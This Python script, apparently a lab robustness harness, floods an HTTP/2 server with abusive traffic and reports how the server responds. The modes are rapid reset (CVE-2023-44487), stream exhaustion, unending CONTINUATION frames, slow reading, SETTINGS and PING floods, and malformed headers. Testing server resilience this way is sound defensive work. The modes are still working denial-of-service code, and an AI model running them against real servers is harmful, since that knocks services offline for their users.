#!/usr/bin/python3
"""h2abuse.py - HTTP/2 abuse a server's client-facing side must survive.

  h2abuse.py MODE --host H --port P --sni NAME --ca FILE [--path /]
             [--count N] [--seconds S] [--path2 PATH]

Modes (a new connection each time the server ends one, until COUNT is
done or SECONDS have passed):
  rapid-reset   COUNT pairs of HEADERS + RST_STREAM(CANCEL) (CVE-2023-44487)
  streams       COUNT streams opened (a POST whose body never comes), as many
                at a time as the server's SETTINGS_MAX_CONCURRENT_STREAMS
                allows (at most 100), then reset, batch after batch
  continuation  HEADERS without END_HEADERS, then CONTINUATION frames full
                of fields, for SECONDS, on at most COUNT connections
  slow-reader   a GET of PATH with SETTINGS_INITIAL_WINDOW_SIZE 0 that is
                never read, held SECONDS, while a second connection GETs
                PATH2 every 0.2 s (one connection each)
  settings      COUNT SETTINGS frames, written without reading the ACKs
  ping          COUNT PING frames, written without reading the ACKs
  malformed     COUNT GET requests whose head carries a connection-specific
                field (RFC 9113 8.2.2: each a malformed stream), 100 at once

Prints one JSON line saying what the server did: "connections" used,
frames and bytes sent, "seconds" it took, "goaways" (GOAWAY code ->
connections that got it), "closed" (connections the server closed),
"send_blocked" (connections it stopped reading for 5 s), "answers"
(responses received) and the mode's own figures.  A lab test measures the
server around it (RSS, CPU) and serves other clients meanwhile; the exit
status is 0 unless the tool itself could not run.
"""

import argparse
import json
import socket
import sys
import time

from h2conform import (CANCEL, CONTINUATION, F_END_STREAM, HEADERS, RST_STREAM,
                       S_INITIAL_WINDOW_SIZE, S_MAX_CONCURRENT_STREAMS, Closed, Conn,
                       PingFrame, RstStreamFrame, SettingsFrame, hpack_int, raw_frame)


class Abuse:
    """An abusive client: one connection at a time, a new one whenever the
    server ends the last (until COUNT or SECONDS run out), and what the
    server did to each."""

    def __init__(self, opts, settings=None):
        self.opts = opts
        self.settings = settings
        self.t0 = time.monotonic()
        self.c = None
        self.conns = self.sent = self.sent_bytes = self.answers = self.bytes_in = 0
        self.closed = self.blocked = 0         # connections the server closed / stopped reading
        self.goaways = {}                      # GOAWAY code -> connections that got it
        self.connect()

    def connect(self):
        self.c = Conn(self.opts)
        self.c.case_id = "h2abuse-" + self.opts.mode
        self.c.handshake(self.settings)
        self.conns += 1
        self.down = False

    def again(self):
        """After the server ended the connection: a new one, unless time is
        up (then False)."""
        if time.monotonic() - self.t0 >= self.opts.seconds:
            return False
        self.account()
        self.connect()
        return True

    def account(self):
        """Adds the current connection's outcome to the totals."""
        self.drain(1.0)
        self.answers += len(self.c.responses)
        self.bytes_in += self.c.bytes_in
        for e in self.c.events:
            if e.startswith("GOAWAY"):
                code = e.split()[1]
                self.goaways[code] = self.goaways.get(code, 0) + 1
                break
        self.c.close()

    def send(self, frames):
        """Writes FRAMES; False when the server stopped reading us (5 s) or
        closed the connection."""
        if self.down:
            return False
        data = b"".join(f if isinstance(f, bytes) else f.serialize() for f in frames)
        self.c.sock.settimeout(5)
        try:
            self.c.sock.sendall(data)
        except (socket.timeout, TimeoutError):
            self.blocked += 1
            self.down = True
            return False
        except OSError:
            self.closed += 1
            self.down = True
            return False
        self.sent += len(frames)
        self.sent_bytes += len(data)
        return True

    def drain(self, seconds=0.001):
        """Reads what the server sent within SECONDS; False once it closed."""
        deadline = time.monotonic() + seconds
        try:
            while self.c.frame(deadline) is not None:
                pass
        except (Closed, OSError):
            if not self.down:
                self.closed += 1
            self.down = True
        return not self.down

    def report(self, **extra):
        self.account()
        return dict(mode=self.opts.mode, connections=self.conns, sent=self.sent,
                    sent_bytes=self.sent_bytes, seconds=round(time.monotonic() - self.t0, 3),
                    goaways=self.goaways, closed=self.closed, send_blocked=self.blocked,
                    answers=self.answers, bytes_in=self.bytes_in, **extra)

    def keep_going(self, ok):
        """True to go on: OK (the last write and read went through), or a
        new connection once the server ended this one."""
        return ok or self.again()


def rapid_reset(opts):
    a = Abuse(opts)
    pairs = 0
    while pairs < opts.count:
        c = a.c
        frames = []
        for _ in range(min(100, opts.count - pairs)):
            sid = c.sid()
            frames += [c.headers(sid, c.request()), RstStreamFrame(sid, error_code=CANCEL)]
        sent = a.send(frames)
        pairs += len(frames) // 2 if sent else 0
        ok = sent and a.drain()
        if not a.keep_going(ok):
            break
    return a.report(pairs=pairs)


def streams(opts):
    a = Abuse(opts)
    opened = 0
    while opened < opts.count:
        c = a.c
        batch = min(100, c.server_settings.get(S_MAX_CONCURRENT_STREAMS, 100),
                    opts.count - opened)
        sids = [c.sid() for _ in range(batch)]
        ok = a.send([c.headers(s, c.request(method="POST"), end_stream=False)
                     for s in sids])
        opened += batch if ok else 0
        ok = ok and a.drain(0.05)
        ok = ok and a.send([RstStreamFrame(s, error_code=CANCEL) for s in sids]) and a.drain()
        if not a.keep_going(ok):
            break
    return a.report(opened=opened)


def continuation(opts):
    a = Abuse(opts)
    # Fields of 1000 bytes, literal without indexing: the block grows
    # without bound and never ends.
    field = b"\x00" + hpack_int(3, 7) + b"x-c" + hpack_int(1000, 7) + b"c" * 1000
    while True:
        c = a.c
        sid = c.sid()
        ok = a.send([raw_frame(HEADERS, F_END_STREAM, sid, c.enc.encode(c.request()))])
        while ok and time.monotonic() - a.t0 < opts.seconds:
            ok = a.send([raw_frame(CONTINUATION, 0, sid, field * 16)] * 16) and a.drain()
        if ok or a.conns >= opts.count or not a.again():
            break
    return a.report()


def malformed(opts):
    a = Abuse(opts)
    sent = 0
    while sent < opts.count:
        c = a.c
        frames = [c.headers(c.sid(), c.request(extra=[("connection", "close")]))
                  for _ in range(min(100, opts.count - sent))]
        ok = a.send(frames)
        sent += len(frames) if ok else 0
        ok = ok and a.drain()
        if not a.keep_going(ok):
            break
    return a.report(streams=sent)


def slow_reader(opts):
    a = Abuse(opts, settings={S_INITIAL_WINDOW_SIZE: 0})
    c = a.c
    c.auto_window = False
    sid = c.sid()
    a.send([c.headers(sid, c.request())])
    a.drain(2.0)
    status = dict(c.responses.get(sid, [])).get(":status")
    other = Conn(opts)
    other.handshake()
    ok = failed = 0
    worst = 0.0
    while time.monotonic() - a.t0 < opts.seconds:
        s = other.sid()
        t = time.monotonic()
        other.send(other.headers(s, other.request(path=opts.path2)))
        if wait_answer(other, s):
            ok += 1
        else:
            failed += 1
        worst = max(worst, time.monotonic() - t)
        time.sleep(0.2)
    other.close()
    return a.report(slow_status=status, other_ok=ok, other_failed=failed,
                    other_worst_ms=round(worst * 1000))


def wait_answer(c, sid, timeout=10):
    """True once stream SID's response has ended, within TIMEOUT seconds."""
    deadline = time.monotonic() + timeout
    try:
        while True:
            f = c.frame(deadline)
            if f is None:
                return False
            if f.stream_id == sid and "END_STREAM" in f.flags:
                return sid in c.responses
            if f.stream_id == sid and f.type == RST_STREAM:
                return False
    except Closed:
        return False


def flood(opts, make):
    a = Abuse(opts)
    frames = 0
    while frames < opts.count:
        n = min(1000, opts.count - frames)
        ok = a.send([make(i) for i in range(frames, frames + n)])
        frames += n if ok else 0
        if not a.keep_going(ok):
            break
    return a.report(frames=frames)


MODES = {
    "rapid-reset": rapid_reset,
    "streams": streams,
    "continuation": continuation,
    "slow-reader": slow_reader,
    "malformed": malformed,
    "settings": lambda o: flood(o, lambda i: SettingsFrame(0, settings={})),
    "ping": lambda o: flood(o, lambda i: PingFrame(0, opaque_data=i.to_bytes(8, "big"))),
}


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("mode", choices=sorted(MODES))
    ap.add_argument("--host", required=True)
    ap.add_argument("--port", type=int, default=443)
    ap.add_argument("--sni", required=True)
    ap.add_argument("--ca", required=True)
    ap.add_argument("--path", default="/")
    ap.add_argument("--path2", default=None, help="slow-reader: the other connection's path")
    ap.add_argument("--count", type=int, default=10000)
    ap.add_argument("--seconds", type=float, default=10.0)
    ap.add_argument("--timeout", type=float, default=5.0)
    opts = ap.parse_args()
    opts.path2 = opts.path2 or opts.path
    try:
        print(json.dumps(MODES[opts.mode](opts)))
    except Exception as e:
        print("h2abuse: %s: %s: %s" % (opts.mode, type(e).__name__, e), file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
